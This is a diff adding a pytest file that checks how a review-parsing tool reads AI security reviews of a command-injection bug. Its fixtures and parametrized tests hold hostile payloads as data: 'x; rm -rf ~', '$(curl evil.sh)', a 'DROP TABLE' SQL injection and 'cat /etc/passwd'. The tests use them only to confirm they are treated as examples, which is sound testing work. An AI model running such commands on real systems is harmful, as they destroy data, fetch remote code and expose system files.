@@ -1,0 +1,185 @@
+"""Conventions of real LLM review tools: scanner issues, agent PR descriptions, report files, bot comments.
+
+Each review here has the shape of a publicly posted review by the tool named (the source is given),
+written again in our own words about our own small code: the shape is what the reader must know.
+"""
+
+from __future__ import annotations
+
+import hashlib
+
+import pytest
+
+from crosscheck.grounding.ground import ground
+from crosscheck.grounding.model import Status
+from crosscheck.models import CodeTarget, SourceFile
+from crosscheck.review import read_review
+from crosscheck.review.citations import extract
+from crosscheck.review.model import CitationRole, ClaimKind, StatedVerdict
+
+CODE = '''import subprocess
+
+
+def run(cmd):
+    return subprocess.run(cmd, shell=True)
+'''
+
+
+def _target(files: dict[str, str], is_dir: bool = True) -> CodeTarget:
+    sources = tuple(SourceFile(path=name, abspath=f"/nonexistent/{name}", text=text,
+                               sha256=hashlib.sha256(text.encode()).hexdigest()) for name, text in files.items())
+    return CodeTarget(root="/nonexistent", is_dir=is_dir, files=sources)
+
+
+def _kinds(text: str) -> list[str]:
+    return [c.kind.value for c in read_review(text).claims]
+
+
+def test_a_scanner_issue_states_a_defect_at_the_line_its_location_field_gives():
+    # the shape of LLM scanner issues, e.g. https://github.com/zhayujie/CowAgent/issues/2701:
+    # a location field, then one sentence, no verdict
+    review = read_review("**File:** `tools/runner.py` (line 5)\n\nshell=True makes command injection far easier "
+                         "to exploit.\n")
+    (claim,) = review.claims
+    assert claim.kind is ClaimKind.DEFECT and review.verdict is StatedVerdict.DEFECTS
+    assert (5, "tools/runner.py") in {(c.line, c.file) for c in claim.citations}
+    grounded = ground(review, _target({"tools/runner.py": CODE}))
+    assert {g.status for g in grounded.claims[0].groundings} >= {Status.EXACT}
+
+
+def test_a_general_rule_under_a_location_is_a_defect_of_that_place():
+    # "pickle should not be used on untrusted input", said under "**File:** `x.py` (line 106)"
+    assert _kinds("**File:** `cache.py` (line 9)\n\npickle should not be used on untrusted input.\n") == ["defect"]
+
+
+# The shape of Jules' security PR descriptions (e.g. https://github.com/n24q02m/mnemo-mcp, jules[bot] PRs):
+# emoji-labelled fields, one per line, in one paragraph.
+JULES = """🚨 Severity: HIGH
+💡 Vulnerability: The command string is passed to `subprocess.run` with `shell=True`, allowing command injection.
+🎯 Impact: Anyone who controls `cmd` runs arbitrary shell commands.
+🔧 Fix: Pass an argument list and use `shlex.split()` on the input.
+✅ Verification: Ran `python3 -m pytest tests/` and the suite passed.
+"""
+
+
+def test_agent_fields_are_the_claims_a_person_sees():
+    review = read_review(JULES)
+    assert [(c.start_line, c.end_line, c.kind.value) for c in review.claims] == [
+        (1, 3, "defect"), (4, 4, "advice"), (5, 5, "context")]
+    fix = review.claims[1]
+    assert {c.code: c.role for c in fix.citations} == {"shlex.split()": CitationRole.SUGGESTION}
+    assert review.verdict is StatedVerdict.DEFECTS
+
+
+# The shape of security report files Claude Code writes into repositories (e.g. ricyoung/2pac's report):
+# numbered findings under headings, bold field labels, comma-listed lines after the path.
+REPORT = """# Security Review
+
+## Findings
+
+### 1. HIGH: Command injection in run()
+
+**Location:** `app/runner.py:5, 9`
+
+**Description:**
+`run()` hands `cmd` to `subprocess.run(cmd, shell=True)`, so shell metacharacters in `cmd` run commands.
+
+**Attack Scenario:**
+1. The attacker sends `x; rm -rf ~` as the command
+2. The shell runs both
+
+**Remediation:**
+- Pass a list and drop `shell=True`
+- Validate `cmd` against an allowlist
+"""
+
+
+def test_a_reports_finding_keeps_its_parts_and_its_fix_is_advice():
+    review = read_review(REPORT)
+    claims = [(c.start_line, c.end_line, c.kind.value) for c in review.claims]
+    assert claims == [(3, 14, "defect"), (16, 18, "advice")]  # "## Findings" over it heads the first finding
+    lines = {(c.line, c.file) for c in review.claims[0].citations if c.line}
+    assert lines == {(5, "app/runner.py"), (9, "app/runner.py")}
+    assert "x; rm -rf ~" not in {c.code for c in review.claims[0].citations}  # the payload is an example
+
+
+def test_front_matter_is_metadata_not_a_claim():
+    text = "---\nstatus: pending\npriority: p1\ntags: [security]\n---\n\n# Path traversal in `load()`\n\n" \
+           "## Problem\n\nAn attacker can traverse directories through `name`.\n"
+    review = read_review(text)
+    assert [(c.start_line, c.kind.value) for c in review.claims] == [(7, "defect")]
+    assert "status" not in review.claims[0].text
+
+
+def test_a_bots_title_heading_names_the_finding_under_its_severity_line():
+    # Cursor Bugbot: "### Title", "**Medium Severity**", then the description
+    text = "### Unquoted ref in shell command\n\n**Medium Severity**\n\n`ref` is interpolated into the shell " \
+           "command passed to `run`.\n"
+    (claim,) = read_review(text).claims
+    assert claim.start_line == 1 and claim.title == "Unquoted ref in shell command"
+    assert claim.kind is ClaimKind.DEFECT
+
+
+def test_a_priority_badge_and_a_suggestion_block():
+    # Gemini Code Assist: a priority image, the finding, a suggestion block of its own
+    text = "![high](https://www.gstatic.com/codereviewagent/high-priority.svg)\n\nThe check on `cmd` can be " \
+           "bypassed with a quoted command.\n\n```suggestion\n    return subprocess.run(shlex.split(cmd))\n```\n"
+    review = read_review(text)
+    assert review.verdict is StatedVerdict.DEFECTS
+    assert review.claims[-1].kind is ClaimKind.ADVICE
+
+
+@pytest.mark.parametrize("label", ["**security (python.lang.security.audit.subprocess-shell-true):**",
+                                   "**issue (security):**"])
+def test_sourcerys_labels_state_defects(label):
+    text = f"{label} Detected subprocess call with shell=True. If `cmd` can be controlled, it may be an " \
+           "instance of command injection.\n\n*Source: opengrep*\n"
+    assert read_review(text).verdict is StatedVerdict.DEFECTS
+
+
+# Qodo's reviewer guide: each focus area is a collapsed block whose summary holds the finding and a link
+# to the lines in the pull request's diff, named by the sha256 of the file's path.
+QODO = """<details><summary><a href='https://github.com/o/r/pull/7/files#diff-{digest}R4-R5'><strong>Shell use</strong></a>
+
+`run` passes `cmd` to a shell, which allows command injection.
+</summary>
+
+```python
+def run(cmd):
+    return subprocess.run(cmd, shell=True)
+```
+
+</details>
+"""
+
+
+def test_a_finding_in_a_collapsed_block_cites_the_diff_lines_of_its_file():
+    digest = hashlib.sha256(b"app/runner.py").hexdigest()
+    review = read_review(QODO.format(digest=digest))
+    (claim,) = review.claims
+    assert claim.kind is ClaimKind.DEFECT
+    grounded = ground(review, _target({"app/runner.py": CODE, "app/other.py": "x = 1\n"}))
+    lines = [g for g in grounded.claims[0].groundings if g.citation.line == 4]
+    assert lines and lines[0].path == "app/runner.py"
+    quoted = [g for g in grounded.claims[0].groundings if g.citation.code and "shell=True)" in g.citation.code]
+    assert quoted and quoted[0].status is Status.EXACT  # the quoted code is an anchor, not tool output
+
+
+@pytest.mark.parametrize("payload", ["$(curl evil.sh)", "x; rm -rf /", "--output /tmp/x", "GET /agents/{name}",
+                                     "tool.py --resume evil", "SELECT 1; DROP TABLE users", "cat /etc/passwd"])
+def test_payloads_and_commands_are_examples_not_code(payload):
+    codes = {c.code for c in extract(f"An attacker sends `{payload}` to `run()`.", 1)}
+    assert "run()" in codes and payload not in codes
+
+
+def test_a_list_that_omits_names_does_not_claim_they_are_there():
+    cited = extract("The deny list omits `DROP`, `COPY` and `CREATE`.", 1)
+    assert {c.role for c in cited} == {CitationRole.NEGATED}
+
+
+def test_a_cited_file_that_is_not_python_is_not_the_file_checked():
+    review = read_review("The handler at `internal/api/runs.go:74-79` races with `run()` at `runner.py:4`.")
+    grounded = ground(review, _target({"runner.py": CODE}, is_dir=False))
+    by_file = {g.citation.file: g.status for g in grounded.claims[0].groundings if g.citation.line}
+    assert by_file["internal/api/runs.go"] is Status.ABSENT
+    assert by_file["runner.py"] is not Status.ABSENT
